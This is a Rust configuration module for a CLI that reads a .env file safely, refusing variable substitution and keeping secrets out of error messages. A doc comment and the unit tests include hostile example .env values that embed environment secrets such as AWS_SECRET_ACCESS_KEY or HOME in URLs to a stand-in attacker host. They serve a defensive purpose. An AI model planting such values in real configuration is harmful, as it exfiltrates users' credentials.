//! Configuration from the environment and a `.env` file (SPEC §6 names).
//!
//! The environment wins over `.env`: a variable that is set, even to the
//! empty string, is never replaced by the file's value (an empty value then
//! means "the default"). A `.env` file in the working directory can name the
//! trusted provider and the acr mapping, so when one is read the CLI says so
//! on stderr, with the variables it supplied.

use std::collections::HashMap;
use std::path::Path;

use crate::error::CliError;
use crate::files::{MAX_DOTENV_BYTES, read_capped};
use crate::term::escape;

/// The default local issuer identifier.
pub(crate) const DEFAULT_ISSUER: &str = "https://issuer.local";

#[derive(Debug, Default)]
pub(crate) struct Env {
    /// Values given as command-line options: they win over everything.
    flags: HashMap<&'static str, String>,
    dotenv: HashMap<String, String>,
}

impl Env {
    /// Reads `.env` from the working directory if there is one (at most
    /// 64 KiB), and names it on stderr with the variables it supplies.
    /// `flags` are the variables given as command-line options.
    pub(crate) fn load(flags: HashMap<&'static str, String>) -> Result<Env, CliError> {
        let path = Path::new(".env");
        if !path.exists() {
            return Ok(Env {
                flags,
                ..Env::default()
            });
        }
        let bytes = read_capped(path, MAX_DOTENV_BYTES, "the .env file")?;
        let env = Env {
            flags,
            dotenv: parse_dotenv(&bytes)?,
        };
        let mut used: Vec<&str> = env
            .dotenv
            .keys()
            .filter(|k| std::env::var_os(k).is_none())
            .map(String::as_str)
            .collect();
        used.sort_unstable();
        let shown = std::env::current_dir().map_or_else(|_| path.to_owned(), |d| d.join(path));
        note!(
            "note: read configuration from {} ({}); variables set in the environment take precedence",
            escape(&shown.display().to_string()),
            if used.is_empty() {
                "nothing it sets is used".to_owned()
            } else {
                escape(&used.join(", ")).into_owned()
            }
        );
        Ok(env)
    }

    /// The variable `name`: the command-line option when given, then the
    /// environment when it is set there (even empty), otherwise `.env`; an
    /// empty or blank value is `None`.
    pub(crate) fn get(&self, name: &str) -> Option<String> {
        if let Some(value) = self.flags.get(name) {
            return Some(value.clone()).filter(|v| !v.trim().is_empty());
        }
        let value = match std::env::var(name) {
            Ok(value) => value,
            Err(std::env::VarError::NotPresent) => self.dotenv.get(name)?.clone(),
            // Set, but not UTF-8: set all the same, so `.env` does not win.
            Err(std::env::VarError::NotUnicode(_)) => return None,
        };
        Some(value).filter(|v| !v.trim().is_empty())
    }

    pub(crate) fn issuer(&self) -> String {
        self.get("AGENT_PASSPORT_ISSUER")
            .unwrap_or_else(|| DEFAULT_ISSUER.to_owned())
    }

    /// Where the local issuer's status list is published (the `uri` in each
    /// passport's `status` claim).
    pub(crate) fn status_uri(&self) -> String {
        self.get("AGENT_PASSPORT_STATUS_URI")
            .unwrap_or_else(|| format!("{}/status/1", self.issuer().trim_end_matches('/')))
    }
}

/// The `.env` syntax dotenvy reads (`KEY=VALUE`, `#` comments, optional
/// `export `, single or double quotes), taken as values: dotenvy's iterator,
/// never its `load`, which would write into the process environment.
///
/// dotenvy also replaces `$VAR` and `${VAR}` in unquoted and double-quoted
/// values with the environment's values. A `.env` file in a cloned
/// directory could then carry a secret of the environment out in a URL
/// (`CSP_DISCOVERY_URL=https://evil/?k=${AWS_SECRET_ACCESS_KEY}`), so such
/// a value is refused; single quotes keep a `$` literally.
fn parse_dotenv(bytes: &[u8]) -> Result<HashMap<String, String>, CliError> {
    refuse_substitution(bytes)?;
    let mut out = HashMap::new();
    for item in dotenvy::from_read_iter(bytes) {
        let (key, value) = item.map_err(|e| {
            // The message never quotes the line: it may hold a secret.
            let what = match e {
                dotenvy::Error::LineParse(..) => format!(
                    "a line after the {} variable(s) read so far is not KEY=VALUE (or a quote is not closed)",
                    out.len()
                ),
                dotenvy::Error::Io(e) => e.to_string(),
                _ => "it is not valid".to_owned(),
            };
            CliError::usage("config", format!("cannot read the .env file: {what}")).hint(
                "write one KEY=VALUE per line; quote values with spaces or `#`, e.g. CSP_SCOPES=\"openid email\"",
            )
        })?;
        out.insert(key, value);
    }
    Ok(out)
}

/// Refuses a value that dotenvy would expand from the environment: a `$`
/// outside single quotes. Read line by line, conservatively (a continuation
/// line of a multi-line value that looks like `KEY=…$…` is refused too).
fn refuse_substitution(bytes: &[u8]) -> Result<(), CliError> {
    let text = String::from_utf8_lossy(bytes);
    for line in text.lines() {
        let line = line.trim_start();
        if line.starts_with('#') {
            continue;
        }
        let line = line.strip_prefix("export ").unwrap_or(line);
        let Some((name, value)) = line.split_once('=') else {
            continue;
        };
        let value = value.trim_start();
        if !value.starts_with('\'') && value.contains('$') {
            return Err(CliError::usage(
                "config",
                format!(
                    "the .env file's value of {} contains `$`, which would be replaced by a variable of the environment",
                    crate::term::escape(name.trim())
                ),
            )
            .hint("put the value in single quotes to keep a `$` as it is, e.g. NAME='a$b'"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::parse_dotenv;

    #[test]
    fn a_value_that_would_expand_the_environment_is_refused() {
        for hostile in [
            &b"CSP_DISCOVERY_URL=https://evil.example/?k=${HOME}\n"[..],
            b"CSP_DISCOVERY_URL=\"https://evil.example/?k=$HOME\"\n",
            b"export CSP_CLIENT_ID=$USER\n",
        ] {
            let err = parse_dotenv(hostile).unwrap_err();
            assert_eq!(err.code, "config", "{}", String::from_utf8_lossy(hostile));
        }
        // Single quotes keep `$` literally, and a comment may say anything.
        let env = parse_dotenv(b"# costs $5\nCSP_CLIENT_ID='a$b'\n").unwrap();
        assert_eq!(env["CSP_CLIENT_ID"], "a$b");
    }

    #[test]
    fn dotenv_lines() {
        let env = parse_dotenv(
            b"# comment\nCSP_CLIENT_ID=abc\nexport CSP_SCOPES=\"openid email\"\nX='y z'\nY=1 # trailing\n",
        )
        .unwrap();
        assert_eq!(env["CSP_CLIENT_ID"], "abc");
        assert_eq!(env["CSP_SCOPES"], "openid email");
        assert_eq!(env["X"], "y z");
        assert_eq!(env["Y"], "1");
        assert_eq!(env.len(), 4);
    }

    #[test]
    fn a_quoted_value_with_a_comment_loses_quotes_and_comment() {
        let env = parse_dotenv(
            b"CSP_DISCOVERY_URL=\"http://127.0.0.1:9/.well-known/openid-configuration\" # the mock\n",
        )
        .unwrap();
        assert_eq!(
            env["CSP_DISCOVERY_URL"],
            "http://127.0.0.1:9/.well-known/openid-configuration"
        );
    }

    #[test]
    fn a_broken_line_is_a_config_error_that_does_not_quote_it() {
        let err = parse_dotenv(b"A=1\nCSP_CLIENT_SECRET=\"s3cret\n").unwrap_err();
        assert_eq!((err.exit, err.code), (2, "config"));
        assert!(!err.message.contains("s3cret"), "{}", err.message);
        assert!(err.hint.is_some());
    }

    #[test]
    fn reading_dotenv_never_writes_the_process_environment() {
        parse_dotenv(b"PASSPORT_TEST_NEVER_SET=1\n").unwrap();
        assert!(std::env::var_os("PASSPORT_TEST_NEVER_SET").is_none());
    }
}
